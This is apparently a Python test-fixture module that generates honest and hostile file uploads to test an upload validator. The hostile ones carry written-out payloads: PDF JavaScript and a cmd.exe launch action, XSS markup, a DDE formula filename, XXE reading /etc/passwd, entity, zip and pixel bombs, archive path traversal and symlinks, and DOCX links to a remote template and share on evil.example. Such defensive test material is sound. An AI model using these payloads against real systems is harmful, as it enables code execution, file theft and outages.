"""Files that people and attackers send: honest ones, broken ones, bombs and disguises.

All are made here, small, of the standard library; a bomb does nothing until something unpacks it.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SPEC = "http://schemas.openxmlformats.org"


@dataclass(frozen=True)
class Ugly:
    """A file as a browser sends it; `kept` says whether it is honest."""

    label: str
    name: str
    make: Callable[[], bytes]
    kept: bool


# ── makers ──


def pdf(*objects: bytes, root: bytes = b"", trailer: bytes = b"") -> bytes:
    """A small correct PDF of one page, with more objects and more in its root or trailer."""
    parts = [
        b"<</Type/Catalog/Pages 2 0 R" + root + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        *objects,
    ]
    body, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    end = b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
    return body + head + table + end % (len(parts) + 1, trailer, len(body))


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (head, len(data), data)


def object_stream(inside: bytes, kind: bytes = b"/ObjStm") -> bytes:
    """Objects packed together, as every modern writer of PDF packs them."""
    head = b"/Type%s/N 1/First 4/Filter/FlateDecode" % kind
    return stream(zlib.compress(b"9 0 " + inside), head)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 8, height: int = 8, extra: bytes = b"", after: bytes = b"") -> bytes:
    """A black picture of one bit a pixel; `extra` are chunks, `after` follows the end."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    packer, line, rows = zlib.compressobj(9), bytes(1 + (width + 7) // 8), b""
    for _row in range(height):
        rows += packer.compress(line)
    rows += packer.flush()
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", rows) + chunk(b"IEND", b"") + after


def jpg(size: tuple[int, int] = (64, 48)) -> bytes:
    found = io.BytesIO()
    Image.linear_gradient("L").resize(size).save(found, "JPEG")
    return found.getvalue()


def archive(parts: Iterable[tuple[str | zipfile.ZipInfo, str | bytes]]) -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts:
            made.writestr(name, content)
    return found.getvalue()


def docx(*more: tuple[str | zipfile.ZipInfo, str | bytes], **instead: str | bytes) -> bytes:
    """A small correct DOCX with further parts; `types`, `rels` and `document` replace its own."""
    xml = '<?xml version="1.0" encoding="UTF-8"?>'
    types = (
        f'{xml}<Types xmlns="{SPEC}/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/></Types>'
    )
    document = (
        f'{xml}<w:document xmlns:w="{SPEC}/wordprocessingml/2006/main"><w:body><w:p><w:r>'
        "<w:t>Kính gửi Sở Giáo dục và Đào tạo</w:t></w:r></w:p></w:body></w:document>"
    )
    rels = relations(("officeDocument", "word/document.xml", ""))
    return archive(
        [
            ("[Content_Types].xml", instead.get("types", types)),
            ("_rels/.rels", instead.get("rels", rels)),
            ("word/document.xml", instead.get("document", document)),
            *more,
        ]
    )


def relations(*links: tuple[str, str, str]) -> str:
    """Kind, target and mode of each link of a part."""
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{SPEC}/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{f" TargetMode={mode!r}" if mode else ""}/>'
        for number, (kind, target, mode) in enumerate(links)
    )
    return f'<Relationships xmlns="{SPEC}/package/2006/relationships">{rows}</Relationships>'


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    return docx(("word/_rels/document.xml.rels", relations((kind, target, mode))))


def laughs() -> str:
    """Entities of entities: a kilobyte that wants to be a gigabyte."""
    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "ha">{steps}]><d>&e9;</d>'


def symlink() -> bytes:
    link = zipfile.ZipInfo("word/link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return docx((link, "/etc/passwd"))


def encrypted() -> bytes:
    """The flag that says a part needs a password, set in both places that hold it."""
    content = bytearray(docx())
    content[6] |= 1
    place = content.index(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def twice() -> bytes:
    """One name for two parts: which one is read depends on the reader."""
    found = bytearray(docx(("word/documenX.xml", "<x/>")))
    return bytes(found).replace(b"word/documenX.xml", b"word/document.xml")


JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
BIG = "A" * 40_000_000


FILES = (
    # Honest, as scanners, phones and offices make them.
    Ugly("a plain pdf", "đơn.pdf", pdf, True),
    Ugly("capitals and blanks in the name", "  BAN SAO .PDF", pdf, True),
    Ugly("a name in separate marks", "\u0110o\u031bn xin ca\u0302\u0301p.pdf", pdf, True),
    Ugly("a very long name", "ễ" * 200 + ".pdf", pdf, True),
    Ugly("a formula for a name", "=cmd|' /C calc'!A0.pdf", pdf, True),
    Ugly("packed objects", "a.pdf", lambda: pdf(object_stream(b"<</Type/Font>>")), True),
    Ugly("a name among pixels", "a.pdf", lambda: pdf(stream(b"\x00/JS /XFAB \xff" * 99)), True),
    Ugly("a link to a page", "a.pdf", lambda: pdf(root=b"/OpenAction[3 0 R/Fit]"), True),
    Ugly("bytes after the end", "a.pdf", lambda: pdf() + b"\0" * 900, True),
    Ugly("a picture", "a.png", png, True),
    Ugly("a large scan", "a.png", lambda: png(7000, 7000), True),
    Ugly(
        "markup in a picture's text",
        "a.png",
        lambda: png(extra=chunk(b"tEXt", b"Comment\0<script>window.__xss=1</script>")),
        True,
    ),
    Ugly("a photo", "a.jpg", jpg, True),
    Ugly("a photo's other ending", "a.JPEG", lambda: jpg((3000, 2000)), True),
    Ugly("bytes after a photo", "a.jpg", lambda: jpg() + b"phone's own data", True),
    Ugly("a letter", "a.docx", docx, True),
    Ugly("a link to a site", "a.docx", lambda: linked("hyperlink", "https://a.vn"), True),
    # Another type than the name says.
    Ugly("a page", "a.pdf", lambda: b"<!doctype html><script>window.__xss=1</script>", False),
    Ugly("a page behind a pdf's head", "a.pdf", lambda: b"%PDF-1.4\n<script>1</script>", False),
    Ugly("a drawing", "a.svg", lambda: b'<svg onload="window.__xss=1"/>', False),
    Ugly("a drawing as picture", "a.png", lambda: b'<svg onload="window.__xss=1"/>', False),
    Ugly("a program", "a.pdf.exe", lambda: b"MZ", False),
    Ugly("no ending", "a", pdf, False),
    Ugly("only an ending", ".htaccess", pdf, False),
    Ugly("an ending turned round", "a\u202efdp.exe", pdf, False),
    Ugly("a line break in the name", 'a"\r\nX-Evil: 1.pdf', pdf, False),
    Ugly("a line break, as browsers send it", "a%22%0D%0AX-Evil: 1.pdf", pdf, False),
    Ugly("an old word file", "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 64, False),
    Ugly("an old word file, renamed", "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", False),
    Ugly("a picture as pdf", "a.pdf", png, False),
    Ugly("a moving picture", "a.gif", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;;", False),
    Ugly("a moving picture, renamed", "a.jpg", lambda: b"GIF89a" + bytes(40), False),
    Ugly("a program's archive", "a.docx", lambda: archive([("A.class", b"\xca\xfe")]), False),
    Ugly("a spreadsheet", "a.csv", lambda: b"=1+1,2\r\n", False),
    Ugly("plain text", "a.txt", lambda: b"X5O!P%@AP", False),
    Ugly("an archive", "a.zip", lambda: archive([("a.txt", "x")]), False),
    Ugly("packed as pdf", "a.pdf", lambda: gzip.compress(bytes(10**6)), False),
    # Two types at once.
    Ugly("pdf and archive", "a.pdf", lambda: pdf() + archive([("a", "x")]), False),
    Ugly("picture and archive", "a.png", lambda: png(after=archive([("a", "x")])), False),
    Ugly("photo and archive", "a.jpg", lambda: jpg() + archive([("a", "x")]), False),
    Ugly("page and letter", "a.docx", lambda: b"<script>1</script>" + docx(), False),
    # Empty or cut off.
    Ugly("nothing", "a.pdf", lambda: b"", False),
    Ugly("one byte", "a.pdf", lambda: b"%", False),
    Ugly("half a pdf", "a.pdf", lambda: pdf(stream(b"x" * 5000))[:3000], False),
    Ugly("half a picture", "a.png", lambda: png(99, 99)[:60], False),
    Ugly("a picture's head", "a.png", lambda: png()[:40], False),
    Ugly("half a photo", "a.jpg", lambda: (p := jpg((900, 600)))[: len(p) // 2], False),
    Ugly("half a letter", "a.docx", lambda: docx()[:300], False),
    Ugly("a letter without text", "a.docx", lambda: archive([("word/document.xml", "")]), False),
    # Active, or hiding what is inside.
    Ugly("script", "a.pdf", lambda: pdf(root=b"/OpenAction" + JS), False),
    Ugly(
        "script, escaped",
        "a.pdf",
        lambda: pdf(root=b"/OpenAction<</S/J#61vaScr#69pt/J#53(1)>>"),
        False,
    ),
    Ugly("script among packed objects", "a.pdf", lambda: pdf(object_stream(JS)), False),
    Ugly(
        "script among packed objects, both escaped",
        "a.pdf",
        lambda: pdf(object_stream(b"<</S/#4aavaScript>>", b"/Obj#53tm")),
        False,
    ),
    Ugly(
        "packed objects far from their head",
        "a.pdf",
        lambda: pdf(object_stream(JS, b"/ObjStm" + b" " * 5000)),
        False,
    ),
    Ugly(
        "packed twice, the known first",
        "a.pdf",
        lambda: pdf(stream(b"x", b"/Filter[/FlateDecode/ASCIIHexDecode]/Type/ObjStm")),
        False,
    ),
    Ugly(
        "packed under an escaped word",
        "a.pdf",
        lambda: pdf(stream(zlib.compress(JS), b"/Type/ObjStm/F#69lter/FlateDecode")),
        False,
    ),
    Ugly(
        "packed twice",
        "a.pdf",
        lambda: pdf(stream(b"x", b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]")),
        False,
    ),
    Ugly("a program to start", "a.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), False),
    Ugly("a file within", "a.pdf", lambda: pdf(stream(b"MZ", b"/Type/EmbeddedFile")), False),
    Ugly("files within", "a.pdf", lambda: pdf(root=b"/Names<</EmbeddedFiles 4 0 R>>"), False),
    Ugly("a password", "a.pdf", lambda: pdf(trailer=b"/Encrypt<</Filter/Standard>>"), False),
    Ugly("a form with script", "a.pdf", lambda: pdf(root=b"/AcroForm<</XFA 4 0 R>>"), False),
    Ugly("a film", "a.pdf", lambda: pdf(b"<</Subtype/RichMedia>>"), False),
    Ugly("a macro", "a.docx", lambda: docx(("word/vbaProject.bin", b"\xd0\xcf")), False),
    Ugly(
        "a macro's type",
        "a.docx",
        lambda: docx(
            types='<Types><Override PartName="/word/document.xml" ContentType='
            '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        ),
        False,
    ),
    Ugly("a password on a letter", "a.docx", encrypted, False),
    Ugly("a file in a letter", "a.docx", lambda: docx(("word/embeddings/o.bin", b"x")), False),
    Ugly("a control in a letter", "a.docx", lambda: docx(("word/activeX/a.bin", b"x")), False),
    Ugly(
        "a template from elsewhere",
        "a.docx",
        lambda: linked("attachedTemplate", "http://evil.example/x.dotm"),
        False,
    ),
    Ugly("a picture from elsewhere", "a.docx", lambda: linked("image", "http://[::1]/"), False),
    Ugly("a share", "a.docx", lambda: linked("oleObject", r"\\evil.example\x", "EXTERNAL"), False),
    # Archives that reach outside, and bombs.
    Ugly("a path upwards", "a.docx", lambda: docx(("../../x", b"x")), False),
    Ugly("a path from the root", "a.docx", lambda: docx(("/etc/cron.d/x", b"x")), False),
    Ugly("a path upwards, the other way", "a.docx", lambda: docx(("..\\x", b"x")), False),
    Ugly("a link", "a.docx", symlink, False),
    Ugly("two parts of one name", "a.docx", twice, False),
    Ugly("a letter that explodes", "a.docx", lambda: docx(document=BIG), False),
    Ugly("entities that explode", "a.docx", lambda: docx(document=laughs()), False),
    Ugly(
        "entities that explode, in wide letters",
        "a.docx",
        lambda: docx(document=laughs().encode("utf-16")),
        False,
    ),
    Ugly("entities in the list of links", "a.docx", lambda: docx(rels=laughs()), False),
    Ugly(
        "a file on the server",
        "a.docx",
        lambda: docx(document='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
        False,
    ),
    Ugly(
        "a list of links without end",
        "a.docx",
        lambda: docx(*[(f"word/_rels/{n}.rels", " " * 900_000) for n in range(40)]),
        False,
    ),
    Ugly(
        "too many parts",
        "a.docx",
        lambda: docx(*[(f"word/{n}", b"") for n in range(2100)]),
        False,
    ),
    Ugly("a picture of gigapixels", "a.png", lambda: png(50_000, 50_000), False),
    Ugly("a picture one line too high", "a.png", lambda: png(10_000, 5_001), False),
    Ugly(
        "a picture's text that explodes",
        "a.png",
        lambda: png(extra=chunk(b"zTXt", b"c\0\0" + zlib.compress(bytes(80_000_000)))),
        False,
    ),
    Ugly(
        "packed objects that explode",
        "a.pdf",
        lambda: pdf(object_stream(bytes(80_000_000))),
        False,
    ),
    Ugly(
        "streams without end",
        "a.pdf",
        lambda: pdf(b">>stream\n" * 200_000 + b"/ObjStm/Filter"),
        True,  # strange, but there is nothing in it
    ),
)
